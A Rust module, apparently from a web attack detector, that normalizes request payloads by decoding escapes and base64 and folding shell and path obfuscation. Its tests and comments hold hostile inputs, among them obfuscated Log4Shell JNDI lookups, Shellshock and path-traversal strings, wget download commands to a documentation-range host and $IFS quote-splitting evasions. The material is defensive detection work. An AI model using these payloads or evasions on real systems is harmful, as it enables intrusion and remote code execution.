//! a payload as sent → the text that attackers can't vary for free: decoded, lower case, blanks folded.
//!
//! Deliberately absent: typing of addresses and random words (`grams`), which literals must not lose.

use std::borrow::Cow;

use super::{canonical, decode};

/// Of a longer payload its head and tail are judged: padding in the middle hides nothing.
pub const MAX_PAYLOAD: usize = 64 * 1024;
const TAIL: usize = 16 * 1024;
const LAYERS: usize = 3;
const BASE64_DEPTH: usize = 2;

/// Decodes what is encoded (three layers of escapes, two of base64, whose texts are appended), and folds the rest:
/// lower case, blanks only between words, `//` and `/./` as `/`. A request that is sent in an unusual way
/// (`canonical`) is there twice: as sent, and as the server comes to see it.
pub fn normalize(payload: &str) -> String {
    normalized(payload, true)
}

/// The same without what a server comes to see: each word as often as it was sent.
pub(super) fn normalize_as_sent(payload: &str) -> String {
    normalized(payload, false)
}

fn normalized(payload: &str, as_served: bool) -> String {
    let capped = cap(payload);
    let capped = canonical::dechunk(&capped);
    let words = redis_words(&capped);
    let plain = peel(words.as_deref().unwrap_or(&capped));
    let mut out = String::with_capacity(plain.len() + 16);
    fold(&plain, &mut out);
    // What was sent in an unusual way stands below as the server comes to see it.
    if let Some(line) = canonical::request_line(&plain).filter(|_| as_served) {
        out.push('\n');
        fold(&line, &mut out);
    }
    if let Some(sent) = canonical::sent_by_command(&capped).filter(|_| as_served) {
        out.push('\n');
        fold(&peel(&sent), &mut out);
    }
    let mut layer = decode::base64_segments(&plain);
    for _ in 0..BASE64_DEPTH {
        let mut next = Vec::new();
        for segment in layer {
            let plain = peel(&segment);
            if out.len() + plain.len() > 2 * MAX_PAYLOAD {
                return out;
            }
            next.extend(decode::base64_segments(&plain));
            out.push('\n');
            fold(&plain, &mut out);
        }
        layer = next;
    }
    out
}

fn cap(payload: &str) -> Cow<'_, str> {
    if payload.len() <= MAX_PAYLOAD {
        return Cow::Borrowed(payload);
    }
    let head = &payload[..payload.floor_char_boundary(MAX_PAYLOAD - TAIL)];
    let tail = &payload[payload.ceil_char_boundary(payload.len() - TAIL)..];
    Cow::Owned(format!("{head} {tail}"))
}

fn peel(text: &str) -> Cow<'_, str> {
    let mut text = Cow::Borrowed(text);
    for _ in 0..LAYERS {
        let decoded = match decode::escapes(&text) {
            Cow::Owned(decoded) => Some(decoded),
            Cow::Borrowed(_) => None,
        };
        let resolved = match decode::lookups(decoded.as_deref().unwrap_or(&text)) {
            Cow::Owned(resolved) => Some(resolved),
            Cow::Borrowed(_) => decoded,
        };
        match resolved {
            Some(changed) => text = Cow::Owned(changed),
            None => break,
        }
    }
    match decode::redis_framing(&text) {
        Cow::Owned(unframed) => Cow::Owned(unframed),
        Cow::Borrowed(_) => text,
    }
}

/// What a byte means to `fold`.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Word,
    Plain,
    Blank,
    Other,
}

const KINDS: [Kind; 256] = {
    let mut kinds = [Kind::Plain; 256];
    let mut byte = 0;
    while byte < 256 {
        kinds[byte] = match byte as u8 {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'_' => Kind::Word,
            // In a query `+` is a blank.
            b'+' | b' ' | 0x01..=0x1F | 0x7F => Kind::Blank,
            0 | b'$' | b'/' | b'\'' | b'"' | 0x80.. => Kind::Other,
            _ => Kind::Plain,
        };
        byte += 1;
    }
    kinds
};

fn is_word(byte: u8) -> bool {
    KINDS[usize::from(byte)] == Kind::Word || byte >= 0x80
}

/// Appends the folded text. NUL is dropped, which leaves UTF-16 of ASCII readable.
fn fold(text: &str, out: &mut String) {
    let bytes = text.as_bytes();
    out.reserve(bytes.len());
    let mut blank = false;
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        match KINDS[usize::from(byte)] {
            Kind::Word => {
                space(out, &mut blank);
                out.push(char::from(byte.to_ascii_lowercase()));
                at += 1;
            }
            Kind::Plain => {
                blank = false;
                out.push(char::from(byte));
                at += 1;
            }
            Kind::Blank => {
                blank = true;
                at += 1;
            }
            Kind::Other => at += other(&text[at..], out, &mut blank),
        }
    }
}

/// Folds what begins with a byte that needs a closer look; returns how many bytes that was.
fn other(rest: &str, out: &mut String, blank: &mut bool) -> usize {
    let bytes = rest.as_bytes();
    match bytes[0] {
        0 => return 1,
        b'$' if bytes.get(1..4).is_some_and(|name| name.eq_ignore_ascii_case(b"ifs")) => {
            *blank = true;
            // `$IFS$9`: an empty argument that ends the name.
            return if bytes.get(4..6) == Some(b"$9") { 6 } else { 4 };
        }
        b'/' if bytes.starts_with(b"/**/") => {
            *blank = true;
            return 4;
        }
        b'/' if out.ends_with('/') && !out.ends_with(":/") => {}
        b'/' if out.ends_with("/.") => {
            out.pop();
        }
        // `w''get` is `wget` to a shell.
        quote @ (b'\'' | b'"')
            if !*blank && matches!(out.as_bytes(), [.., word, last] if *last == quote && is_word(*word)) =>
        {
            out.pop();
        }
        0x80.. => return beyond_ascii(rest, out, blank),
        byte => out.push(char::from(byte)),
    }
    *blank = false;
    1
}

fn beyond_ascii(rest: &str, out: &mut String, blank: &mut bool) -> usize {
    let Some(c) = rest.chars().next() else { return 1 };
    match c {
        // What could not be decoded; and the soft hyphen, which PHP-CGI on Windows reads as `-` (CVE-2024-4577).
        char::REPLACEMENT_CHARACTER | '\u{AD}' => *blank = true,
        _ if c.is_whitespace() => *blank = true,
        _ => {
            space(out, blank);
            // The upper case of `ı` is `I`, which Java's case folding makes an `i`.
            if c == 'ı' { out.push('i') } else { out.extend(c.to_lowercase()) }
        }
    }
    c.len_utf8()
}

/// A blank stays only between two words.
fn space(out: &mut String, blank: &mut bool) {
    if std::mem::take(blank) && out.as_bytes().last().is_some_and(|&last| is_word(last)) {
        out.push(' ');
    }
}

/// A Redis request (`*4\r\n$6\r\nconfig\r\n…`, or with the line breaks printed as dots) as the words that it
/// holds; `None` for anything else.
fn redis_words(payload: &str) -> Option<String> {
    let rest = payload.trim_start().strip_prefix('*')?;
    let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
    let separator = ["\r\n", "\\r\\n", "\n", ".."].into_iter().find(|it| rest[digits..].starts_with(it))?;
    if digits == 0 || digits > 6 {
        return None;
    }
    let is_word = |it: &&str| {
        let number = it.strip_prefix(['*', '$']);
        !number.is_some_and(|it| !it.is_empty() && it.bytes().all(|it| it.is_ascii_digit()))
    };
    let words: Vec<&str> = payload.trim_start().split(separator).filter(is_word).filter(|it| !it.is_empty()).collect();
    Some(words.join(" "))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(payload: &str, expect: &str) {
        assert_eq!(normalize_as_sent(payload), expect, "{payload}");
    }

    #[test]
    fn what_the_server_comes_to_see_stands_below() {
        assert_eq!(normalize("GET /a/../b HTTP/1.1"), "get/a/../b http/1.1\nget/b http/1.1");
        assert_eq!(normalize("GET /b HTTP/1.1"), "get/b http/1.1");
    }

    #[test]
    fn what_is_varied_for_free_is_folded() {
        check("GET  /A//b/./C?x=1%20OR\t2 HTTP/1.1\r\nHost: h", "get/a/b/c?x=1 or 2 http/1.1 host:h");
        check("http://h//x", "http://h/x");
        check("..%252f..%252f", "../../");
        check("/cgi-bin/.%%32%65/.%%32%65/bin/sh", "/cgi-bin/../../bin/sh");
        check("() { :; }", "(){:;}");
        check("cd+/tmp;w''get$IFS$9x;cat${IFS}y/**/z", "cd/tmp;wget x;cat y z");
        check("\u{0}a\u{0}b", "ab");
    }

    #[test]
    fn log4j_in_disguise_is_log4j() {
        for disguise in [
            "${jndi:ldap://192.0.2.1/a}",
            "%24%7Bjndi:ldap://192.0.2.1/a%7D",
            "${${::-j}${::-n}${lower:D}i:${lower:${lower:L}}dap://192.0.2.1/a}",
            r"\u0024\u007bJNDI:ldap://192.0.2.1/a}",
            "${jnd${upper:ı}:ldap://192.0.2.1/a}",
        ] {
            check(disguise, "${jndi:ldap://192.0.2.1/a}");
        }
    }

    #[test]
    fn base64_is_read_twice_and_no_deeper() {
        use base64::Engine as _;
        let encode = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
        let once = encode("wget http://192.0.2.1/once");
        let thrice = encode(&encode(&encode("wget http://192.0.2.1/thrice")));
        assert!(normalize(&once).contains("wget http://192.0.2.1/once"));
        assert!(!normalize(&thrice).contains("thrice"));
    }

    #[test]
    fn a_long_payload_is_judged_by_head_and_tail() {
        let long = format!("head{}ü{}tail", "ä".repeat(100_000), "x".repeat(50_000));
        let text = normalize(&long);
        assert!(text.starts_with("head") && text.ends_with("tail"));
        assert!(text.len() <= MAX_PAYLOAD + 16);
    }

    proptest::proptest! {
        #[test]
        fn anything_is_bounded_and_stable(text in "[ -~%$\\{\\}\\\\&;\u{0}-\u{ff}]{0,300}") {
            let once = normalize(&text);
            proptest::prop_assert!(once.len() <= 3 * text.len() + 64);
        }
    }
}
